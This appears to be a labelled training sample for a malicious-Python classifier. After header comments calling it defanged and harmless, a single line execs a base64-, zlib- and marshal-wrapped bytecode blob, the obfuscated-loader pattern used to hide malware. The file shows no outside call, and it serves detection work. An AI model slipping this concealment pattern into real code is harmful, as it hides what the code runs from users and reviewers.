# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
# Every encoded blob below decodes to a harmless placeholder (a print call) or is a placeholder string.
import marshal, zlib, base64
exec(marshal.loads(zlib.decompress(base64.b64decode(b"eJxLZkACzFD6swyQmM7AxJDKkMKwjJGBYTUjTAkjQwpjMIMmU5VISmpaYl56aopCQU5icmpGfk5KapGfJuMt1oKizLySlQyfQcp/MdsU2/3isMnNTynNSbUrYgUbwcBQDLLhAzMjI+MNBtYG1gtsMhcZZK8wyF6AoSKQWwDxaCHm"))))
